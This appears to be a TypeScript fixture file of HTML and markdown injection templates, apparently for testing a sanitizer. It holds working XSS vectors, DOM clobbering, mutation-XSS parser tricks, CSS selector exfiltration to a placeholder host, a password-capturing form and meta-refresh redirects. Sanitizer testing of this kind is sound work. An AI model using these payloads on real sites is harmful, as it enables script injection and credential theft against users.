/** Templates of attacks: JS, URL, REMOTE and NAME stand for what `attacks.ts` puts in their place. */

export const clobbering = {
  'clobber-id': '<p id="main">x</p><a id="search" name="search">y</a>',
  'clobber-document':
    '<img name=body><form name=getElementById></form><form id=x><input name=attributes></form>',
  'clobber-pair': '<a id=config><a id=config name=url href="javascript:JS">',
  'clobber-class':
    '<div class="visually-hidden skip-link" data-pagefind-body data-pagefind-filter="a:b">x</div>',
  'clobber-heading': '## x {#main .page onclick="JS"}\n\n# main',
  'clobber-footnote': '<h2 id="footnote-label">x</h2><li id="user-content-fn-1">y</li>\n\nz[^1]\n\n[^1]: n',
  'clobber-element': '<site-search action="URL" is="x">x</site-search><slot name=x>y</slot>',
  'clobber-roles':
    '<div role=alert aria-live=assertive tabindex=1 accesskey=s contenteditable hidden popover>x</div>',
};

export const styles = {
  'style-element': '<style>body{background:url(URL)}</style>',
  'style-import': '<style>@import "REMOTE";</style>',
  'style-values': '<style>input[value^=a]{background:url(REMOTE)}</style>',
  'style-broken-out': '<style><b></style><img src=x onerror="JS"></style>',
  'style-attribute': '<p style="background:url(URL)">x</p>',
  'style-overlay': '<a href="https://attacked.example" style="position:fixed;inset:0;z-index:9">x</a>',
  'style-expression': '<p style="width:expression(JS);-moz-binding:url(URL)">x</p>',
  'style-sheet': '<link rel=stylesheet href="URL"><link rel=preload as=style href="REMOTE" onload="JS">',
  'style-cell': '<table><tr><td style="text-align: center;background:url(URL)">x</table>',
};

export const frames = {
  'frame-script': '<iframe src="javascript:JS"></iframe>',
  'frame-document': '<iframe srcdoc="<script>parent.attacked=1</script>" onload="JS"></iframe>',
  'frame-set': '<frameset><frame src="javascript:JS"></frameset>',
  'frame-object': '<object data="javascript:JS" onerror="JS"><param name=url value="URL"></object>',
  'frame-embed': '<embed src="URL" type="image/svg+xml"><applet codebase="URL" code=x></applet>',
  'frame-portal': '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
  'form-action': '<form action="javascript:JS"><button>x</button></form>',
  'form-button':
    '<button formaction="javascript:JS" onclick="JS">x</button><input type=submit formaction="URL" form=x>',
  'form-image': '<input type=image src="URL" onerror="JS"><input type="image" src="javascript:JS">',
  'form-fields':
    '<form action="REMOTE">Password <input type=password name=p autofocus><select><option>x</select></form>',
  'form-dialog':
    '<dialog open>x</dialog><textarea autofocus onfocus="JS">y</textarea><keygen autofocus onfocus="JS">',
  'page-base': '<base href="https://attacked.example/attacked/NAME/">\n\n[x](y)',
  'page-refresh':
    '<meta http-equiv=refresh content="0;url=URL"><meta http-equiv=refresh content="0;javascript:JS">',
  'page-policy':
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=Set-Cookie content=a>',
  'page-links':
    '<link rel=prefetch href="URL"><link rel=manifest href="URL"><link rel=dns-prefetch href="REMOTE">',
};

export const foreign = {
  'svg-load': '<div><svg onload="JS"></svg><svg/onload=JS></div>',
  'svg-script': '<svg><script>JS</script><script href="URL" /></svg>',
  'svg-link': '<svg><a xlink:href="javascript:JS"><text y=9>x</text></a></svg>',
  'svg-animate':
    '<svg><a><animate attributeName=href values="javascript:JS"/><text y=9>x</text></a><set onbegin="JS"/></svg>',
  'svg-use':
    '<svg><use href="data:image/svg+xml,<svg id=x>#x"/><image href="URL" /><feImage href="URL" /></svg>',
  'svg-foreign': '<svg><foreignObject><iframe src="javascript:JS"></iframe></foreignObject></svg>',
  'math-link':
    '<math href="javascript:JS"><mtext>x</mtext></math><math><maction xlink:href="javascript:JS">y</maction></math>',
  'math-annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror="JS"></annotation-xml></math>',
};

export const mutations = {
  'mutation-noscript': '<noscript><p title="</noscript><img src=x onerror=JS>" onclick="JS"></noscript>',
  'mutation-template':
    '<template><img src=x onerror="JS"></template><template><style></template><img src=x onerror="JS">',
  'mutation-textarea': '<textarea><p title="</textarea><img src=x onerror=JS>">',
  'mutation-raw-text':
    '<xmp><p title="</xmp><img src=x onerror=JS>"></xmp><noembed><img title="</noembed><svg onload=JS>">',
  'mutation-svg-style': '<svg></p><style><a id="</style><img src=x onerror=JS>">',
  'mutation-math-table':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">',
  'mutation-math-form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror="JS">',
  'mutation-cdata': '<svg><![CDATA[><img src=x onerror="JS">]]></svg>',
  'mutation-title': '<b title="</b><script>JS</script>">x</b> <a title="--><img src=x onerror=JS>">y</a>',
  'mutation-select':
    '<select><template><option><img src=x onerror="JS"></template></select><select><style></select><img src=x onerror="JS">',
  'broken-open': '<div><img src=x onerror="JS"',
  'broken-quote': '<div><a href="x title="y onmouseover="JS">z</a></div>',
  'broken-end': '<p>x</p onclick="JS"><//><img src=x onerror="JS" <',
  'broken-comment': '<!-- x --!><img src=x onerror="JS"> <!-- <img src=x onerror="JS">',
  'broken-plaintext': '<table onclick="JS"><tr><plaintext><script>JS</script>',
};
